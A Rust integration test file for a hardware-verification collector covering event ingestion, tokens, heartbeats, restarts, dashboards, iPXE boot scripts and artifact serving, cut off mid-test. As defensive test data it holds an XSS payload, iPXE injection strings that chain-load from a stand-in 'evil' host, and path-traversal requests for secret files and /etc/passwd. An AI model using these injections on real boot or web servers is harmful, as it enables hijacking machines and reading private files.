//! The collector over real HTTP on 127.0.0.1 with a temporary database: the agent protocol,
//! token rules, limits, heartbeat loss, restarts, reports and pages.

#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use kiln_collector::config::Config;
use kiln_collector::server::Collector;
use kiln_protocol::verdict::Verdict;
use kiln_protocol::wire::{
    Event, EventBatch, EventBody, LogLevel, NodeIdentity, Outcome, RegisterRequest,
    RegisterResponse, StepReport,
};
use serde_json::Value;

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

fn scratch(name: &str) -> PathBuf {
    let dir = repo()
        .join("target/test-scratch")
        .join(format!("{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

const SUITE: &str = "suite: t\ndescription: d\nsteps:\n  - name: tool\n    exec: {argv: [true]}\n";

/// An in-process collector on 127.0.0.1:0.
struct Server {
    base: String,
    data: PathBuf,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
}

impl Server {
    async fn start(name: &str, config: Config) -> Server {
        let data = scratch(name);
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let collector = Collector::open(config, &data).unwrap();
        let (tx, rx) = tokio::sync::oneshot::channel::<()>();
        tokio::spawn(collector.serve(listener, async move {
            let _ = rx.await;
        }));
        Server {
            base,
            data,
            stop: Some(tx),
        }
    }

    fn admin_token(&self) -> String {
        std::fs::read_to_string(self.data.join("admin.token"))
            .unwrap()
            .trim()
            .to_owned()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        if let Some(tx) = self.stop.take() {
            let _ = tx.send(());
        }
    }
}

fn identity(n: u8) -> NodeIdentity {
    NodeIdentity {
        macs: vec![format!("52:54:00:00:00:{n:02x}")],
        uuid: None,
        serial: Some(format!("SN{n}")),
    }
}

async fn register(client: &reqwest::Client, base: &str, n: u8, suite: &str) -> RegisterResponse {
    let req = RegisterRequest {
        identity: identity(n),
        hostname: Some(format!("node-{n}")),
        suite_text: suite.into(),
    };
    let r = client
        .post(format!("{base}/api/v1/register"))
        .json(&req)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    r.json().await.unwrap()
}

fn ev(seq: u64, body: EventBody) -> Event {
    Event {
        seq,
        at_ms: 1,
        body,
    }
}

fn log(seq: u64) -> Event {
    ev(
        seq,
        EventBody::Log {
            step: Some(0),
            level: LogLevel::Info,
            line: format!("line {seq}"),
        },
    )
}

fn full_run() -> Vec<Event> {
    vec![
        ev(
            1,
            EventBody::RunStarted {
                suite: "t".into(),
                steps: 1,
                agent: "test".into(),
            },
        ),
        ev(
            2,
            EventBody::StepStarted {
                step: 0,
                name: "tool".into(),
                kind: "exec".into(),
            },
        ),
        log(3),
        ev(
            4,
            EventBody::StepFinished {
                report: StepReport {
                    step: 0,
                    name: "tool".into(),
                    kind: "exec".into(),
                    outcome: Outcome::Pass,
                    metrics: vec![],
                    duration_ms: 5,
                },
            },
        ),
        ev(
            5,
            EventBody::RunFinished {
                verdict: Verdict::Pass,
            },
        ),
    ]
}

async fn post_events(
    client: &reqwest::Client,
    base: &str,
    run: &RegisterResponse,
    events: Vec<Event>,
) -> reqwest::Response {
    client
        .post(format!("{base}/api/v1/runs/{}/events", run.run_id))
        .bearer_auth(&run.token)
        .json(&EventBatch { events })
        .send()
        .await
        .unwrap()
}

async fn run_json(client: &reqwest::Client, base: &str, run_id: i64) -> Value {
    client
        .get(format!("{base}/api/v1/runs/{run_id}"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn events_are_stored_once_and_acknowledged_contiguously() {
    let server = Server::start("ingest", Config::default()).await;
    let client = reqwest::Client::new();
    let run = register(&client, &server.base, 1, SUITE).await;
    assert_eq!(run.token.len(), 64);
    let plan: Value = client
        .get(format!("{}/api/v1/runs/{}/plan", server.base, run.run_id))
        .bearer_auth(&run.token)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(plan["suite_text"], SUITE);

    let first: Vec<Event> = full_run().into_iter().take(3).collect();
    let ack: Value = post_events(&client, &server.base, &run, first.clone())
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(ack["acked"], 3);
    // The same batch again (a retry after a lost answer): acknowledged, not duplicated.
    let ack: Value = post_events(&client, &server.base, &run, first)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(ack["acked"], 3);
    let ack: Value = post_events(&client, &server.base, &run, full_run())
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(ack["acked"], 5);
    let detail = run_json(&client, &server.base, run.run_id).await;
    assert_eq!(detail["verdict"], "pass");
    assert_eq!(detail["log_lines"], 1);
    assert_eq!(detail["steps"].as_array().unwrap().len(), 1);
    // Once the run has its verdict it is closed, even to its own agent's retries.
    let r = post_events(&client, &server.base, &run, full_run()).await;
    assert_eq!(r.status(), 409);
    assert_eq!(run_json(&client, &server.base, run.run_id).await, detail);

    // A gap holds the acknowledgement back until it is filled.
    let run2 = register(&client, &server.base, 2, SUITE).await;
    let ack: Value = post_events(&client, &server.base, &run2, vec![log(1), log(2), log(3)])
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(ack["acked"], 3);
    let ack: Value = post_events(&client, &server.base, &run2, vec![log(5), log(6)])
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(ack["acked"], 3);
    let ack: Value = post_events(&client, &server.base, &run2, vec![log(4)])
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(ack["acked"], 6);
}

#[tokio::test(flavor = "multi_thread")]
async fn tokens_are_required_and_scoped_to_their_run() {
    let server = Server::start("tokens", Config::default()).await;
    let client = reqwest::Client::new();
    let (a, b) = (
        register(&client, &server.base, 1, SUITE).await,
        register(&client, &server.base, 2, SUITE).await,
    );
    let url = format!("{}/api/v1/runs/{}/events", server.base, a.run_id);
    let body = EventBatch {
        events: vec![log(1)],
    };
    let r = client.post(&url).json(&body).send().await.unwrap();
    assert_eq!(r.status(), 401);
    let r = client
        .post(&url)
        .bearer_auth(&b.token)
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let err: Value = r.json().await.unwrap();
    assert!(err["error"].as_str().unwrap().contains("not run"), "{err}");
    // Without the right token, even a malformed body gets 401/403, not a validation message.
    let r = client
        .post(&url)
        .header("content-type", "application/json")
        .body("{oops")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let r = client
        .get(format!("{}/api/v1/runs/{}/plan", server.base, a.run_id))
        .bearer_auth(&b.token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);

    let mode = serde_json::json!({ "select": { "all": true }, "mode": "hold" });
    let r = client
        .post(format!("{}/api/v1/nodes/mode", server.base))
        .json(&mode)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let r = client
        .post(format!("{}/api/v1/nodes/mode", server.base))
        .bearer_auth(&a.token)
        .json(&mode)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let r = client
        .post(format!("{}/api/v1/nodes/mode", server.base))
        .bearer_auth(server.admin_token())
        .json(&mode)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let nodes: Value = client
        .get(format!("{}/api/v1/nodes", server.base))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(
        nodes
            .as_array()
            .unwrap()
            .iter()
            .all(|n| n["mode"] == "hold")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn bad_requests_get_a_status_and_a_message() {
    let server = Server::start("bad", Config::default()).await;
    let client = reqwest::Client::new();
    let run = register(&client, &server.base, 1, SUITE).await;
    let url = format!("{}/api/v1/runs/{}/events", server.base, run.run_id);
    let send = |body: String| {
        client
            .post(&url)
            .bearer_auth(&run.token)
            .header("content-type", "application/json")
            .body(body)
            .send()
    };

    let r = send("{not json".into()).await.unwrap();
    assert_eq!(r.status(), 400);
    let msg: Value = r.json().await.unwrap();
    assert!(
        msg["error"]
            .as_str()
            .unwrap()
            .contains("key must be a string"),
        "{msg}"
    );

    let r = send(r#"{"events": [], "extra": 1}"#.into()).await.unwrap();
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("unknown field"));

    let r = send(
        serde_json::to_string(&EventBatch {
            events: vec![log(1), log(3)],
        })
        .unwrap(),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), 400);
    assert!(
        r.text()
            .await
            .unwrap()
            .contains("sequence numbers jump from 1 to 3")
    );

    let huge = format!(
        r#"{{"events": [{{"seq": 1, "at_ms": 0, "body": {{"type": "log", "level": "info", "line": "{}"}}}}]}}"#,
        "x".repeat(5 << 20)
    );
    let r = send(huge).await.unwrap();
    assert_eq!(r.status(), 413);
    assert!(r.text().await.unwrap().contains("over the limit"));

    // A suite the loader refuses is refused at registration, with its location.
    let req = RegisterRequest {
        identity: identity(9),
        hostname: None,
        suite_text: "suite: x\ndescription: d\nsteps: []\n".into(),
    };
    let r = client
        .post(format!("{}/api/v1/register", server.base))
        .json(&req)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    assert!(
        r.text()
            .await
            .unwrap()
            .contains("suite:3:1: steps: no steps")
    );

    // Hostile identities are refused before they are stored.
    let req = RegisterRequest {
        identity: NodeIdentity {
            macs: vec![],
            uuid: None,
            serial: Some("x\nchain http://evil/".into()),
        },
        hostname: None,
        suite_text: SUITE.into(),
    };
    let r = client
        .post(format!("{}/api/v1/register", server.base))
        .json(&req)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_silent_agent_fails_its_run_with_lost_contact() {
    let config = Config {
        heartbeat_timeout: kiln_protocol::units::HumanDuration::from_secs(1),
        ..Config::default()
    };
    let server = Server::start("heartbeat", config).await;
    let client = reqwest::Client::new();
    let run = register(&client, &server.base, 1, SUITE).await;
    let first = full_run().into_iter().take(2).collect();
    assert_eq!(
        post_events(&client, &server.base, &run, first)
            .await
            .status(),
        200
    );
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let detail = run_json(&client, &server.base, run.run_id).await;
        if detail["verdict"] == "fail" {
            assert!(
                detail["verdict_reason"]
                    .as_str()
                    .unwrap()
                    .starts_with("lost contact"),
                "{detail}"
            );
            assert!(detail["faults"].to_string().contains("lost contact"));
            break;
        }
        assert!(Instant::now() < deadline, "never failed: {detail}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    // A late RunFinished(pass) is refused (the run is closed) and changes nothing.
    let before = run_json(&client, &server.base, run.run_id).await;
    let late = vec![ev(
        3,
        EventBody::RunFinished {
            verdict: Verdict::Pass,
        },
    )];
    assert_eq!(
        post_events(&client, &server.base, &run, late)
            .await
            .status(),
        409
    );
    assert_eq!(run_json(&client, &server.base, run.run_id).await, before);
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_and_reports_show_nodes_and_escape_what_nodes_send() {
    let server = Server::start("pages", Config::default()).await;
    let client = reqwest::Client::new();
    let req = RegisterRequest {
        identity: identity(3),
        hostname: Some("<script>alert(1)</script>".into()),
        suite_text: SUITE.into(),
    };
    let run: RegisterResponse = client
        .post(format!("{}/api/v1/register", server.base))
        .json(&req)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let mut events = full_run();
    events[3] = ev(
        4,
        EventBody::StepFinished {
            report: StepReport {
                step: 0,
                name: "tool".into(),
                kind: "exec".into(),
                outcome: Outcome::Fail {
                    faults: vec![kiln_protocol::wire::Fault::new(
                        "exec.exit_code",
                        "tool exited with 3",
                    )],
                },
                metrics: vec![],
                duration_ms: 5,
            },
        },
    );
    events[4] = ev(
        5,
        EventBody::RunFinished {
            verdict: Verdict::Fail,
        },
    );
    post_events(&client, &server.base, &run, events).await;
    let page = client
        .get(format!("{}/", server.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;"),
        "hostname not escaped"
    );
    assert!(!page.contains("<script>alert(1)"));
    assert!(page.contains("tool: tool exited with 3"));
    let csv = client
        .get(format!(
            "{}/api/v1/report?format=csv&verdict=fail",
            server.base
        ))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(csv.lines().count(), 2, "{csv}");
    assert!(csv.contains(",fail,tool: tool exited with 3"), "{csv}");
    let none = client
        .get(format!(
            "{}/api/v1/report?format=csv&verdict=pass",
            server.base
        ))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(none.lines().count(), 1);
    let bad = client
        .get(format!("{}/api/v1/report?since=soon", server.base))
        .send()
        .await
        .unwrap();
    assert_eq!(bad.status(), 400);
    let junit = client
        .get(format!(
            "{}/api/v1/runs/{}/junit.xml",
            server.base, run.run_id
        ))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(junit.contains("failures=\"1\""), "{junit}");
    let run_page = client
        .get(format!("{}/runs/{}", server.base, run.run_id))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(run_page.contains("tool exited with 3"));
    let metrics = client
        .get(format!("{}/metrics", server.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        metrics.contains("kiln_runs{verdict=\"fail\"} 1"),
        "{metrics}"
    );
}

/// A `kiln serve` child process.
struct Child_ {
    child: Child,
}

impl Drop for Child_ {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn spawn_kiln(data: &Path, port: u16) -> Child_ {
    let child = Command::new(env!("CARGO_BIN_EXE_kiln"))
        .args([
            "serve",
            "--data",
            data.to_str().unwrap(),
            "--listen",
            &format!("127.0.0.1:{port}"),
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "kiln serve did not start");
        std::thread::sleep(Duration::from_millis(50));
    }
    Child_ { child }
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

#[test]
fn a_collector_killed_and_restarted_mid_run_loses_nothing() {
    let data = scratch("restart");
    let port = free_port();
    let base = format!("http://127.0.0.1:{port}");
    let mut server = spawn_kiln(&data, port);
    let rt = tokio::runtime::Runtime::new().unwrap();
    let client = reqwest::Client::new();
    let run = rt.block_on(register(&client, &base, 7, SUITE));
    let reporter = kiln_agent::reporter::Reporter::start(kiln_agent::reporter::Target {
        base: base.clone(),
        run_id: run.run_id,
        token: run.token.clone(),
        heartbeat: Duration::from_secs(60),
    })
    .unwrap();
    use kiln_agent::runner::EventSink;
    let lines = 3000;
    reporter.emit(EventBody::RunStarted {
        suite: "t".into(),
        steps: 0,
        agent: "test".into(),
    });
    for i in 0..lines {
        reporter.emit(EventBody::Log {
            step: None,
            level: LogLevel::Info,
            line: format!("line {i}"),
        });
        if i == lines / 3 {
            // Kill -9 while batches are in flight, then come back on the same port and data.
            server.child.kill().unwrap();
            server.child.wait().unwrap();
            std::thread::sleep(Duration::from_millis(700));
            server = spawn_kiln(&data, port);
        }
        if i % 100 == 0 {
            std::thread::sleep(Duration::from_millis(5));
        }
    }
    // The suite's one step, so the collector's own verdict can be a pass.
    reporter.emit(EventBody::StepFinished {
        report: StepReport {
            step: 0,
            name: "tool".into(),
            kind: "exec".into(),
            outcome: Outcome::Pass,
            metrics: vec![],
            duration_ms: 1,
        },
    });
    reporter.emit(EventBody::RunFinished {
        verdict: Verdict::Pass,
    });
    assert_eq!(
        reporter.flush(Duration::from_secs(60)),
        0,
        "events left unacknowledged"
    );
    let detail = rt.block_on(run_json(&client, &base, run.run_id));
    assert_eq!(detail["log_lines"], lines);
    assert_eq!(detail["verdict"], "pass");
    let logs: Vec<Value> = rt.block_on(async {
        client
            .get(format!(
                "{base}/api/v1/runs/{}/logs?limit=100000",
                run.run_id
            ))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap()
    });
    let seqs: Vec<i64> = logs.iter().map(|l| l["seq"].as_i64().unwrap()).collect();
    assert_eq!(
        seqs,
        (2..2 + lines as i64).collect::<Vec<_>>(),
        "log sequence has gaps or duplicates"
    );
    drop(server);
}

#[test]
fn smoke_run_with_collector_shows_the_same_verdict_and_faults_in_report_and_page() {
    let agent = Path::new(env!("CARGO_BIN_EXE_kiln")).with_file_name("kiln-agent");
    assert!(
        agent.exists(),
        "{} is not built; run the workspace tests (cargo nextest run --workspace)",
        agent.display()
    );
    let data = scratch("e2e");
    let port = free_port();
    let base = format!("http://127.0.0.1:{port}");
    let _server = spawn_kiln(&data, port);
    let suite = data.join("fails.yaml");
    std::fs::write(&suite, "suite: e2e\ndescription: d\nexpect:\n  cpu: {min_logical: 4096}\nsteps:\n  - name: tool\n    exec: {argv: [true]}\n").unwrap();
    let out = Command::new(&agent)
        .args([
            "run",
            suite.to_str().unwrap(),
            "--plain",
            "--collector",
            &base,
        ])
        .output()
        .unwrap();
    let printed = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{printed}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let fault = printed
        .lines()
        .find_map(|l| l.split("expect: FAULT ").nth(1))
        .unwrap()
        .to_owned();
    assert!(
        fault.starts_with("expected ≥ 4096 logical CPUs, found"),
        "{fault}"
    );

    let report = Command::new(env!("CARGO_BIN_EXE_kiln"))
        .args(["report", "--server", &base])
        .output()
        .unwrap();
    let table = String::from_utf8_lossy(&report.stdout);
    assert_eq!(
        report.status.code(),
        Some(1),
        "a failed node makes kiln report exit 1: {table}"
    );
    assert!(table.contains("fail") && table.contains(&fault), "{table}");
    let page = reqwest::blocking_get(&format!("{base}/"));
    assert!(
        page.contains(&fault) && page.contains("badge fail"),
        "{page}"
    );
}

mod reqwest {
    pub use ::reqwest::*;

    /// A GET from a plain thread.
    pub fn blocking_get(url: &str) -> String {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async { ::reqwest::get(url).await.unwrap().text().await.unwrap() })
    }
}

/// Runs Debian's headless Chromium against `url`: the DOM after load, and a screenshot.
fn chromium(url: &str, screenshot: &Path) -> String {
    let profile = screenshot.with_extension("profile");
    let base = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--window-size=1400,900",
    ];
    let run = |extra: &str| {
        let out = Command::new("chromium")
            .args(base)
            .arg(format!("--user-data-dir={}", profile.display()))
            .arg(extra)
            .arg(url)
            .output()
            .expect("chromium is installed by .ci/setup (apt-get install chromium)");
        assert!(
            out.status.success(),
            "chromium failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let dom = run("--dump-dom");
    run(&format!("--screenshot={}", screenshot.display()));
    dom
}

#[tokio::test(flavor = "multi_thread")]
async fn the_dashboard_renders_in_headless_chromium() {
    let server = Server::start("chromium", Config::default()).await;
    let client = reqwest::Client::new();
    let req = RegisterRequest {
        identity: identity(4),
        hostname: Some("rack12-node07".into()),
        suite_text: SUITE.into(),
    };
    let run: RegisterResponse = client
        .post(format!("{}/api/v1/register", server.base))
        .json(&req)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let mut events = full_run();
    events[4] = ev(
        5,
        EventBody::RunFinished {
            verdict: Verdict::Fail,
        },
    );
    post_events(&client, &server.base, &run, events).await;
    let shot = server.data.join("dashboard.png");
    let url = format!("{}/", server.base);
    let dom = tokio::task::spawn_blocking({
        let shot = shot.clone();
        move || chromium(&url, &shot)
    })
    .await
    .unwrap();
    assert!(dom.contains("rack12-node07"), "{dom}");
    assert!(dom.contains("data-verdict=\"fail\""), "{dom}");
    assert!(
        dom.contains("<span class=\"badge fail\">fail</span>"),
        "{dom}"
    );
    let png = std::fs::read(&shot).unwrap();
    assert!(
        png.starts_with(b"\x89PNG") && png.len() > 10_000,
        "screenshot of {} bytes",
        png.len()
    );
    // Kept for a look: target/test-scratch/chromium-*/dashboard.png
}

/// Sends a raw HTTP/1.1 request (so paths reach the server exactly as written) and returns
/// the status line and body.
fn raw_get(base: &str, path: &str, extra: &str) -> (String, String) {
    use std::io::{Read, Write};
    let addr = base.trim_start_matches("http://");
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: 10.0.2.100\r\nConnection: close\r\n{extra}\r\n"
    )
    .unwrap();
    let mut response = Vec::new();
    stream.read_to_end(&mut response).unwrap();
    let text = String::from_utf8_lossy(&response).into_owned();
    let status = text.lines().next().unwrap_or("").to_owned();
    let body = text
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_owned())
        .unwrap_or_default();
    (status, body)
}

/// Compares a rendered script with its golden copy (KILN_BLESS=1 rewrites it).
fn golden(name: &str, text: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name);
    if std::env::var_os("KILN_BLESS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&path)
        .unwrap_or_else(|_| panic!("{} missing; run with KILN_BLESS=1", path.display()));
    assert_eq!(text, want, "{name} differs from its golden copy");
}

/// Blanks the per-boot token so a script can be compared.
fn untoken(script: &str) -> String {
    let mut out = String::new();
    for word in script.split_inclusive(' ') {
        match word.strip_prefix("kiln.token=") {
            Some(rest) => out.push_str(&format!("kiln.token=TOKEN{}", &rest[64.min(rest.len())..])),
            None => out.push_str(word),
        }
    }
    out
}

#[test]
fn every_boot_script_matches_its_golden_copy_and_hostile_values_never_reach_one() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    // The node's console is configured (nothing listens there; the capture just waits).
    let access: Vec<kiln_collector::config::NodeAccess> =
        serde_yaml::from_str("- mac: \"52:54:00:00:00:01\"\n  console: {tcp: \"127.0.0.1:9\"}\n")
            .unwrap();
    let config = Config {
        default_suite: "plain".into(),
        after_verify: "poweroff".into(),
        nodes: access,
        ..Config::default()
    };
    let server = rt.block_on(Server::start("ipxe", config));
    std::fs::write(server.data.join("suites/plain.yaml"), SUITE).unwrap();
    std::fs::write(
        server.data.join("suites/with-memtest.yaml"),
        "suite: m\ndescription: d\nmemtest: {passes: 2, report_mode: summary}\nsteps:\n  - name: tool\n    exec: {argv: [true]}\n",
    )
    .unwrap();
    let base = server.base.clone();
    let q = "mac=52-54-00-00-00-01&uuid=6f1a0c4e-0000-4000-8000-000000000001&serial=SN-1&manufacturer=QEMU&product=Standard%20PC&platform=pcbios&buildarch=i386";

    let (status, boot) = raw_get(&base, "/boot.ipxe", "");
    assert!(status.contains("200"), "{status}");
    golden("boot.ipxe", &boot);
    let (_, linux) = raw_get(&base, &format!("/ipxe?{q}"), "");
    golden("linux.ipxe", &untoken(&linux));
    // The agent starts with the boot's token (the run's first event).
    let token = linux.split("kiln.token=").nth(1).unwrap()[..64].to_owned();
    let client = reqwest::Client::new();
    let batch = EventBatch {
        events: full_run().into_iter().take(1).collect(),
    };
    let post = |token: &str| {
        rt.block_on(
            client
                .post(format!("{base}/api/v1/runs/1/events"))
                .bearer_auth(token)
                .json(&batch)
                .send(),
        )
        .unwrap()
    };
    assert_eq!(post(&token).status(), 200);
    // Asking again within the Linux stage never issues a second token: the node rebooted (or
    // its image did not boot), which fails the run, and its token is dead from then on.
    let (_, done) = raw_get(&base, &format!("/ipxe?{q}"), "");
    assert!(!done.contains("kiln.token="), "{done}");
    golden("done-after-reboot.ipxe", &done);
    let detail = rt.block_on(run_json(&client, &base, 1));
    assert_eq!(detail["verdict"], "fail");
    assert!(
        detail["faults"].to_string().contains("unexpected reboot"),
        "{detail}"
    );
    let r = post(&token);
    assert_eq!(r.status(), 409);
    assert!(
        rt.block_on(r.text())
            .unwrap()
            .contains("run 1 is finished (verdict fail)")
    );

    let admin = server.admin_token();
    let set = |body: Value, path: &str| {
        let r = rt
            .block_on(
                client
                    .post(format!("{base}{path}"))
                    .bearer_auth(&admin)
                    .json(&body)
                    .send(),
            )
            .unwrap();
        assert_eq!(r.status(), 200);
    };
    set(
        serde_json::json!({ "select": { "node": 1 }, "mode": "hold" }),
        "/api/v1/nodes/mode",
    );
    golden("hold.ipxe", &raw_get(&base, &format!("/ipxe?{q}"), "").1);
    set(
        serde_json::json!({ "select": { "node": 1 }, "mode": "local" }),
        "/api/v1/nodes/mode",
    );
    golden("local.ipxe", &raw_get(&base, &format!("/ipxe?{q}"), "").1);
    set(
        serde_json::json!({ "select": { "node": 1 }, "suite": "with-memtest" }),
        "/api/v1/nodes/suite",
    );
    set(
        serde_json::json!({ "select": { "node": 1 }, "mode": "verify" }),
        "/api/v1/nodes/mode",
    );
    let (_, memtest) = raw_get(&base, &format!("/ipxe?{q}"), "");
    golden("memtest.ipxe", &memtest);
    // Rebooting while memtest86+ runs is a fail, never a pass.
    let (_, after) = raw_get(&base, &format!("/ipxe?{q}"), "");
    assert!(after.contains("verification fail"), "{after}");

    // Hostile values: a serial that would start a new command, a product with `${…}` and
    // `&&`, a MAC that is not one. None of it may appear in a script.
    let hostile = "mac=52-54-00-00-00-09&serial=x%0Achain%20http://evil/&product=%24%7Bnet0/mac%7D%20%26%26%20chain%20http://evil/&manufacturer=a||reboot";
    let (status, script) = raw_get(&base, &format!("/ipxe?{hostile}"), "");
    assert!(status.contains("200"), "{status}");
    assert!(
        !script.contains("evil") && !script.contains("reboot") && !script.contains("${net0"),
        "{script}"
    );
    assert!(script.contains("(no serial)"), "{script}");
    let (status, _) = raw_get(&base, "/ipxe?mac=not-a-mac", "");
    assert!(status.contains("400"), "{status}");
    let (status, _) = raw_get(&base, "/boot.ipxe", "Host: evil.example/x\r\n");
    assert!(status.contains("200") || status.contains("400"), "{status}");
}

#[test]
fn artifacts_are_served_with_ranges_and_etags_and_nothing_outside() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let server = rt.block_on(Server::start("artifacts", Config::default()));
    let content: Vec<u8> = (0..100_000u32).map(|i| (i % 251) as u8).collect();
    std::fs::write(server.data.join("artifacts/vmlinuz"), &content).unwrap();
    std::fs::write(server.data.join("secret.txt"), b"secret").unwrap();
    std::os::unix::fs::symlink(
        server.data.join("secret.txt"),
        server.data.join("artifacts/link"),
    )
    .unwrap();
    let client = reqwest::Client::new();
    let base = server.base.clone();
    let (full, etag) = rt.block_on(async {
        let r = client
            .get(format!("{base}/artifacts/vmlinuz"))
            .send()
            .await
            .unwrap();
        let etag = r.headers()["etag"].to_str().unwrap().to_owned();
        (r.bytes().await.unwrap(), etag)
    });
    assert_eq!(&full[..], &content[..]);
    let sha = kiln_collector::store::queries::sha256_hex(&content);
    assert_eq!(etag, format!("\"{sha}\""));
    let (status, range, part) = rt.block_on(async {
        let r = client
            .get(format!("{base}/artifacts/vmlinuz"))
            .header("range", "bytes=1000-1999")
            .send()
            .await
            .unwrap();
        (
            r.status(),
            r.headers()["content-range"].to_str().unwrap().to_owned(),
            r.bytes().await.unwrap(),
        )
    });
    assert_eq!(status, 206);
    assert_eq!(range, "bytes 1000-1999/100000");
    assert_eq!(&part[..], &content[1000..2000]);
    let status = rt
        .block_on(
            client
                .get(format!("{base}/artifacts/vmlinuz"))
                .header("range", "bytes=200000-")
                .send(),
        )
        .unwrap()
        .status();
    assert_eq!(status, 416);
    let head = rt
        .block_on(client.head(format!("{base}/artifacts/vmlinuz")).send())
        .unwrap();
    assert_eq!(head.headers()["content-length"], "100000");
    let cached = rt
        .block_on(
            client
                .get(format!("{base}/artifacts/vmlinuz"))
                .header("if-none-match", &etag)
                .send(),
        )
        .unwrap();
    assert_eq!(cached.status(), 304);
    let listing: Value = rt.block_on(async {
        client
            .get(format!("{base}/artifacts/"))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap()
    });
    assert_eq!(listing[0]["name"], "vmlinuz");
    assert_eq!(listing[0]["sha256"], sha.as_str());
    for path in [
        "/artifacts/../secret.txt",
        "/artifacts/%2e%2e/secret.txt",
        "/artifacts/%2E%2E%2Fsecret.txt",
        "/artifacts//etc/passwd",
        "/artifacts/link",
        "/artifacts/..%2fkiln.sqlite",
    ] {
        let (status, body) = raw_get(&base, path, "");
        assert!(
            !body.contains("secret") || status.contains("404"),
            "{path}: {status}"
        );
        assert!(
            status.contains("404") || status.contains("400"),
            "{path}: {status}"
        );
    }
}

#[test]
fn operators_label_and_set_modes_from_the_command_line() {
    let data = scratch("nodes-cli");
    let port = free_port();
    let base = format!("http://127.0.0.1:{port}");
    let _server = spawn_kiln(&data, port);
    let csv = data.join("nodes.csv");
    std::fs::write(&csv, "mac,rack,slot,hostname\n52:54:00:aa:00:01,R12,U01,r12-u01\n52:54:00:aa:00:02,R12,U02,r12-u02\n52:54:00:aa:00:03,R13,U01,r13-u01\n").unwrap();
    let token = data.join("admin.token");
    let kiln = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_kiln"))
            .args(args)
            .output()
            .unwrap()
    };
    let out = kiln(&[
        "nodes",
        "import",
        csv.to_str().unwrap(),
        "--server",
        &base,
        "--token-file",
        token.to_str().unwrap(),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
